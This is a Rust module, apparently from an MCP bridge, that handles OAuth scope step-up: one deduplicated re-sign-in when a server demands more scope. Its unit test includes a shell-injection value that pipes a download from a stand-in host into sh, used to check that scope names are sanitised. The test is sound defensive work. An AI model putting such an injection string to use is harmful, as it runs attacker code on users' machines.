//! More scope than the token has: one new sign-in for what there is and what is needed, together.
//!
//! Asked by `caller` when the server refuses a call for it. Whoever calls meanwhile waits for the one sign-in, and gets
//! its token. Invariants: for the same words a person is asked once, so that no server keeps them busy; where the scope
//! was given on the command line, it is the most that is ever asked for; what cannot be raised leaves the token that
//! there is; a command that people are told to type has nothing of a server's in it but names of scopes, and all of
//! them. Specifications: MCP 2026-07-28 authorization, "Scope Challenge Handling"; RFC 6750 §3.1.

use std::{collections::BTreeSet, sync::Arc};

use super::{Credentials, Held, Present, Source};
use crate::{
    fault::{Fault, printable},
    scope,
    sign_in::Learned,
};

/// Different wishes of one server.
const WISHES_MAX: usize = 16;
/// Words of one scope.
const WORDS_MAX: usize = 64;

type Words = BTreeSet<String>;

/// See the file's header.
#[derive(Debug, Default)]
pub(super) struct AskedFor(BTreeSet<Words>);

impl AskedFor {
    /// Whether these words were never asked for; from now on they were.
    fn is_first(&mut self, words: &Words) -> bool {
        self.0.len() < WISHES_MAX && words.len() <= WORDS_MAX && self.0.insert(words.clone())
    }

    /// Nobody was asked after all.
    fn take_back(&mut self, words: &Words) {
        self.0.remove(words);
    }
}

impl Learned {
    /// Whether a scope has all that was found to be needed.
    pub(super) fn is_covered_by(&self, scope: Option<&str>) -> bool {
        words(self.scope.as_deref().unwrap_or_default()).is_subset(&words(scope.unwrap_or_default()))
    }
}

/// Names alone: what was kept by an earlier build may hold anything.
fn words(scope: &str) -> Words {
    scope::names(scope).map(str::to_owned).collect()
}

fn joined(words: &Words) -> String {
    words.iter().map(String::as_str).collect::<Vec<_>>().join(" ")
}

impl Credentials {
    /// A token that is good for more; `None` where nobody can be asked for it, or was in vain: then the server's own
    /// refusal is the answer.
    pub(crate) async fn step_up(self: &Arc<Self>, narrow: &Held, needed: &str) -> Result<Option<Arc<Held>>, Fault> {
        if self.wish.scope.is_some() {
            return Ok(None);
        }
        let (this, spent, needed) = (Arc::clone(self), narrow.hash, words(needed));
        let raising = async move {
            let waited = this.supervisor.shutdown().or_stop(this.present.lock()).await;
            let mut present = waited.ok_or(Fault::Stopping)?;
            let other = present.held.clone().filter(|held| held.hash != spent);
            if let Some(other) = other.filter(|other| needed.is_subset(&words(&other.scope))) {
                return Ok(Some(other));
            }
            this.raise(&mut present, &needed).await
        };
        self.supervisor.persist("step-up", Box::pin(raising)).await
    }

    async fn raise(&self, present: &mut Present, needed: &Words) -> Result<Option<Arc<Held>>, Fault> {
        let held = present.held.as_ref().map(|held| words(&held.scope)).unwrap_or_default();
        let known = words(present.learned.scope.as_deref().unwrap_or_default());
        let all: Words = held.iter().chain(&known).chain(needed).cloned().collect();
        if !present.asked_for.is_first(&all) {
            return Ok(None);
        }
        tracing::info!("the server asks for more scope; somebody has to sign in");
        let before = present.learned.scope.replace(joined(&all));
        match Box::pin(self.obtain(present, Source::IfWide)).await {
            Ok(held) => Ok(Some(held)),
            Err(fault) => {
                present.learned.scope = before;
                if matches!(fault, Fault::SignInFirst { .. } | Fault::FailedBefore(_) | Fault::Stopping) {
                    present.asked_for.take_back(&all);
                }
                Err(refused(fault, &joined(&all)))
            }
        }
    }
}

fn refused(fault: Fault, all: &str) -> Fault {
    let scope = printable(all);
    match fault {
        Fault::Stopping => Fault::Stopping,
        Fault::SignInFirst { .. } => {
            // A scope that was cut is another one.
            let is_whole = scope == all;
            let with = if is_whole { format!("--scope '{scope}'") } else { "a --scope that has all of it".to_owned() };
            let why = format!("nobody can be asked here; sign in with {with}, and start this bridge with it");
            Fault::ScopeRefused { scope, why }
        }
        fault => Fault::ScopeRefused { scope, why: fault.to_string() },
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn the_same_words_are_asked_for_once_and_not_without_end() {
        let mut asked = AskedFor::default();
        assert!(asked.is_first(&words("a b")) && !asked.is_first(&words("b  a ")));
        asked.take_back(&words("b a"));
        assert!(asked.is_first(&words("a b")));
        let more = (0..100).filter(|n| asked.is_first(&words(&n.to_string()))).count();
        assert_eq!(more, WISHES_MAX - 1);
        assert_eq!(joined(&words("'!';curl${IFS}evil.example|sh;' b a")), "a b");
        let many: Words = (0..=WORDS_MAX).map(|n| n.to_string()).collect();
        assert!(!AskedFor::default().is_first(&many));
    }
}
